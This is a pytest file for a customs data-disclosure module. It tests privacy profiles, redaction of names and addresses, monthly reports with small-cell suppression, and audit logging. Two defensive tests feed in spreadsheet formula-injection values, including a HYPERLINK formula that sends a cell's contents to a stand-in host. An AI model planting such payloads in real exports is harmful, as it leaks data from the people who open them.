"""Disclosure: a profile may not ask for more than its recipient may have, and what is previewed is what leaves."""

from __future__ import annotations

import json
import random
from collections.abc import Callable
from dataclasses import dataclass, replace
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import insert
from typer.testing import CliRunner

from edge.errors import Conflict, NotFound, PolicyError, RequestRefused
from edge.fields import class_of
from edge.storage.chain import Entry
from sync.central.central import Central
from sync.central.database import writing
from sync.central.intake.ingest import ingest
from sync.central.privacy import profile, reports
from sync.central.privacy.disclosure import Period, log, prepare, send
from sync.central.privacy.profile import compiled
from sync.central.privacy.reports import report
from sync.central.privacy.suppression import Cell
from sync.central.tables import outcomes
from sync.command_disclose import disclose_app
from tests.sync.boxes import Box, assessed

PROFILES = Path(profile.__file__).with_name("profiles")
MONTH = Period(date(2026, 11, 1), date(2026, 11, 30))
OWN, OTHER = "09521234543213", "04006381333931"


def body(gtins: tuple[str, ...], findings: tuple[str, ...], outcome: str = "CHECK") -> dict[str, Any]:
    items = [{"gtin": {"value": gtin}, "serial": f"S-{gtin[-3:]}", "batch": None} for gtin in gtins]
    told = [{"code": code, "cause": "mismatch", "item": gtins[0] if gtins else ""} for code in findings]
    moment = {"utc": "2026-11-21T09:30:00Z", "trust": "synced"}
    verdict = {"outcome": outcome, "findings": told}
    assessment = {"identity": {"items": items}, "seen": {}, "verdict": verdict, "at": moment}
    return {"request": "", "assessment": assessment}


CONSIGNMENT = {
    "document": "RR000000001JP", "platform": "example-market", "order": "order 77",
    "consignor": {"name": "Seller 9", "address": "Street 1", "country": "XX"},
    "consignee": {"name": "Aki Addressee", "address": "Home 2", "country": "JP"},
    "lines": [{"hs": "330300", "origin": "FR", "gtin": OWN}],
}  # fmt: skip


@dataclass
class Country:
    central: Central
    box: Box

    def inspected(
        self, number: int, gtins: tuple[str, ...], findings: tuple[str, ...] = (), decision: str = "", **told: Any
    ) -> None:
        personal = {"seen.consignment": json.dumps(CONSIGNMENT), "parcel": "RR000000001JP"}
        entries: list[Entry] = [replace(assessed(number, body=body(gtins, findings, **told)), personal=personal)]
        if decision:
            said = {"disposition": {"decision": decision, "undoes": None, "officer": "O-7", "reason": "x"}}
            entries.append(replace(entries[0], kind="disposed", body=said, personal={}, key="", sightings=()))
        before = self.box.ledger.head().seq
        self.box.ledger.append(entries)
        ingest(self.central.engine, self.central.id, self.box.batch(before), self.central.stamp())


@pytest.fixture
def country(central: Central, box: Callable[..., Box]) -> Country:
    made = Country(central, box())
    made.inspected(1, (OWN, OTHER), ("serial.revoked", "watch.listed"), "detain")
    made.inspected(2, (OTHER,), ("serial.revoked",), "detain")
    made.inspected(3, (OWN,), (), "release")
    return made


def rows(data: bytes) -> list[dict[str, Any]]:
    return list(json.loads(data)["rows"])


def changed(tmp_path: Path, name: str, old: str, new: str) -> Path:
    path = tmp_path / f"{name}.toml"
    path.write_text((PROFILES / f"{name}.toml").read_text("utf-8").replace(old, new))
    return path


# --- profiles --------------------------------------------------


@pytest.mark.parametrize("path", sorted(PROFILES.glob("*.toml")), ids=lambda path: path.stem)
def test_every_profile_that_comes_with_the_program_compiles(path: Path) -> None:
    assert compiled(path).basis


_MOST = "expected a field that is at most "


@pytest.mark.parametrize(
    ("name", "field", "came"),
    [
        (
            "right-holder",
            "assessment.seen.consignment.consignee.name",
            "disclosable and not nominal for a right_holder, got one that is nominal and disclosable",
        ),
        (
            "platform",
            "assessment.seen.consignment.consignee.address",
            "disclosable and not nominal for a platform, got one that is nominal and disclosable",
        ),
        ("customs", "disposition.officer", "disclosable for a customs, got one that is withheld"),
        (
            "statistics",
            "assessment.identity.items.gtin.value",
            "public and not nominal for a statistics, got one that is disclosable",
        ),
    ],
)
def test_a_profile_that_asks_for_more_does_not_compile_and_names_the_field(
    tmp_path: Path, name: str, field: str, came: str
) -> None:
    path = changed(tmp_path, name, "[fields]", f'[fields]\nmore = "{field}"')
    with pytest.raises(PolicyError) as caught:
        compiled(path)
    assert caught.value.code == "profile_class"
    decisive = class_of(field)[1]
    assert caught.value.message == f"{path}: fields.more: {field}: {_MOST}{came} ({decisive})."


@pytest.mark.parametrize(
    ("name", "old", "new", "code"),
    [
        ("right-holder", "gtins =", "ports =", "profile_condition"),
        ("platform", "platforms =", "ports =", "profile_condition"),
        ("customs", 'kind = "customs"', 'kind = "press"', "profile_kind"),
        ("customs", 'form = "json"', 'form = "xml"', "policy_value"),
        ("customs", "[fields]", "[fields", "policy_unreadable"),
    ],
)
def test_a_profile_that_is_not_whole_is_refused(tmp_path: Path, name: str, old: str, new: str, code: str) -> None:
    with pytest.raises(PolicyError) as caught:
        compiled(changed(tmp_path, name, old, new))
    assert caught.value.code == code


# --- documents --------------------------------------------------


def test_a_right_holder_gets_detained_goods_of_its_own_and_nobodys_name(country: Country) -> None:
    data = prepare(country.central, compiled(PROFILES / "right-holder.toml"), MONTH).data
    assert rows(data) == [
        {
            "inspection": "i1", "date": "2026-11-21", "gtin": [OWN], "serial": ["S-213"], "batch": [None],
            "findings": ["serial.revoked"], "differences": [], "regions": [],
        }
    ]  # fmt: skip
    for word in (b"Aki", b"Seller", b"RR0000", b"O-7", b"watch", OTHER.encode()):
        assert word not in data


def test_a_platform_gets_its_order_and_seller_and_never_the_addressee(country: Country) -> None:
    data = prepare(country.central, compiled(PROFILES / "platform.toml"), MONTH).data
    first, second = rows(data)
    assert (first["order"], first["seller"], first["month"], first["stage"]) == ("order 77", "Seller 9", "2026-11", "")
    assert second["gtin"] == [OTHER]
    assert b"Aki" not in data
    assert b"Home 2" not in data


def test_another_customs_gets_what_was_confirmed(country: Country) -> None:
    wanted = compiled(PROFILES / "customs.toml")
    assert rows(prepare(country.central, wanted, MONTH).data) == []
    told = {"id": "o", "device": "bench-1", "inspection": "i2", "ending": "confirmed", "decided": "2026-11-22"}
    told |= dict.fromkeys(("reference", "corrects", "name", "role", "received", "document"), "")
    with writing(country.central.engine) as connection:
        connection.execute(insert(outcomes).values(**told))
    (row,) = rows(prepare(country.central, wanted, MONTH).data)
    assert (row["inspection"], row["consignor"], row["hs"]) == ("i2", "Seller 9", ["330300"])


def test_what_lies_outside_the_period_does_not_go(country: Country) -> None:
    december = Period(date(2026, 12, 1), date(2026, 12, 31))
    assert rows(prepare(country.central, compiled(PROFILES / "right-holder.toml"), december).data) == []


def test_a_csv_names_its_document_and_no_cell_is_a_formula(country: Country, tmp_path: Path) -> None:
    country.inspected(4, ("09521234000008",), ("=cmd",), outcome="NO_FINDING")
    path = changed(tmp_path, "statistics", "version", "version")
    told = prepare(country.central, compiled(path), MONTH)
    lines = told.data.decode().split("\r\n")
    assert lines[0].startswith(f"# {told.id} Statistics office; ")
    assert lines[1] == "month,port,outcome,decision,findings"
    assert lines[2] == "2026-11,Narita,CHECK,detain,serial.revoked"
    assert lines[5] == "2026-11,Narita,NO_FINDING,,'=cmd"


def test_no_cell_of_a_report_is_a_formula(country: Country) -> None:
    for number in range(10, 16):
        country.inspected(number, (OWN,), ('=HYPERLINK("http://e.example/?"&A1)',))
    told = report(country.central, ("finding",), MONTH, {}).as_csv().decode()
    assert '"\'=HYPERLINK(""http://e.example/?""&A1)",x' in told.split("\r\n")
    country.inspected(20, ("09521234000008",), ("\t=1",), outcome="NO_FINDING")
    assert ",'\t=1\r\n" in prepare(country.central, compiled(PROFILES / "statistics.toml"), MONTH).data.decode()


@pytest.mark.parametrize(("first", "last"), [((2026, 11, 1), (2026, 11, 29)), ((2026, 11, 2), (2026, 11, 30))])
def test_a_report_is_of_whole_months_so_that_two_tell_nothing_of_the_days_between(
    country: Country, first: tuple[int, int, int], last: tuple[int, int, int]
) -> None:
    period = Period(date(*first), date(*last))
    with pytest.raises(RequestRefused) as caught:
        report(country.central, ("port",), period, {})
    assert caught.value.message == (
        f"Expected the first day of a month and the last of one, got {period.first} and {period.last}."
    )


def test_what_is_previewed_is_what_leaves_and_it_is_logged_once(country: Country) -> None:
    wanted = compiled(PROFILES / "right-holder.toml")
    shown = prepare(country.central, wanted, MONTH)
    sent = send(country.central, wanted, prepare(country.central, wanted, MONTH), "O-9")
    assert sent == shown.data
    assert send(country.central, wanted, shown, "O-9") == sent
    (entry,) = log(country.central)
    assert (entry["id"], entry["recipient"], entry["who"]) == (shown.id, wanted.recipient, "O-9")
    assert (entry["profile"], entry["corrects"]) == (wanted.sha256, "")
    assert entry["rows"] == [["bench-1", country.box.ledger.head().ledger, 1]]


def test_what_has_left_is_taken_back_by_a_correction_alone(country: Country) -> None:
    wanted, other = compiled(PROFILES / "right-holder.toml"), compiled(PROFILES / "platform.toml")
    first = prepare(country.central, wanted, MONTH)
    with pytest.raises(NotFound) as missing:
        prepare(country.central, wanted, MONTH, corrects=first.id, reason="wrong batch")
    assert missing.value.message == f"Expected the id of a document that was sent, got {first.id!r}."
    send(country.central, wanted, first, "O-9")
    with pytest.raises(Conflict) as caught:
        prepare(country.central, other, MONTH, corrects=first.id, reason="wrong batch")
    assert (
        caught.value.message == f"{first.id}: expected a document to {other.recipient}, got one to {wanted.recipient}."
    )
    second = prepare(country.central, wanted, MONTH, corrects=first.id, reason="wrong batch")
    told = json.loads(send(country.central, wanted, second, "O-9", corrects=first.id))
    assert (told["corrects"], told["reason"]) == (first.id, "wrong batch")
    assert {entry["corrects"] for entry in log(country.central)} == {"", first.id}
    third = prepare(country.central, wanted, MONTH, corrects=first.id, reason="again")
    with pytest.raises(Conflict) as again:
        send(country.central, wanted, third, "O-9", corrects=first.id)
    assert again.value.message == f"{first.id}: expected a document that stands, got one that was corrected before."


def test_the_command_line_previews_sends_and_logs(tmp_path: Path) -> None:
    place, run = ["--dir", str(tmp_path / "central")], CliRunner().invoke
    wanted = [str(PROFILES / "statistics.toml"), "--from", "2026-11-01", "--to", "2026-11-30"]
    assert run(disclose_app, ["check", wanted[0]]).output.startswith(f"{wanted[0]}: statistics 2026.11 for Statistics")
    shown = run(disclose_app, ["preview", *wanted, *place])
    out = tmp_path / "out.csv"
    sent = run(disclose_app, ["send", *wanted, "--out", str(out), "--who", "O-9", *place])
    assert sent.exit_code == 0, sent.output
    assert out.read_bytes() == shown.stdout_bytes
    assert json.loads(run(disclose_app, ["log", *place]).output)[0]["who"] == "O-9"
    refused = run(disclose_app, ["send", *wanted, "--out", str(out), "--reason", "x", *place])
    assert refused.exit_code == 2
    table = run(disclose_app, ["report", *wanted[1:], "--by", "port", "--csv", *place])
    assert table.output.splitlines() == ["port,count"]


# --- reports --------------------------------------------------


def test_a_report_counts_every_inspection_once_and_suppresses_small_cells(country: Country, tmp_path: Path) -> None:
    for number in range(10, 50):
        country.inspected(number, (OWN,), ("serial.unknown",) if number < 30 else ())
    for number in range(50, 58):
        country.inspected(number, (OWN,), ("serial.reported",))
    groups = tmp_path / "groups.toml"
    groups.write_text(f'perfume = ["{OWN[:8]}"]\n')
    told = report(country.central, ("finding",), MONTH, {})
    assert told.cells == {
        ("none",): 21, ("serial.reported",): None, ("serial.revoked",): None, ("serial.unknown",): 20, ("*",): 51,
    }  # fmt: skip
    told = report(country.central, ("group", "finding"), MONTH, reports.groups_of(groups))
    assert told.cells["perfume", "serial.revoked"] is None
    assert told.cells["other", "serial.unknown"] == 0
    data = told.as_json() + told.as_csv()
    for word in (b"watch", b"O-7", b"bench-1", b"Aki", b"threshold_"):
        assert word not in data
    assert b"perfume,serial.revoked,x" in data


@pytest.mark.parametrize("by", [(), ("officer",), ("port", "port")])
def test_a_report_by_anything_else_is_refused(country: Country, by: tuple[str, ...]) -> None:
    with pytest.raises(RequestRefused) as caught:
        report(country.central, by, MONTH, {})
    expected = f"Expected some of period, port, group, finding, each once, got {', '.join(by) or 'none'}."
    assert caught.value.message == expected


def test_a_table_too_large_to_be_read_is_refused() -> None:
    draw = random.Random(1)
    counts: dict[Cell, int] = {(f"{n % 90}", f"{n}"): draw.randrange(50) for n in range(90)}
    with pytest.raises(RequestRefused) as caught:
        reports.tabled(counts, ("port", "finding"), MONTH, 5)
    message = "Expected a table of 3000 cells or fewer, got 8281: take fewer dimensions or months."
    assert caught.value.message == message
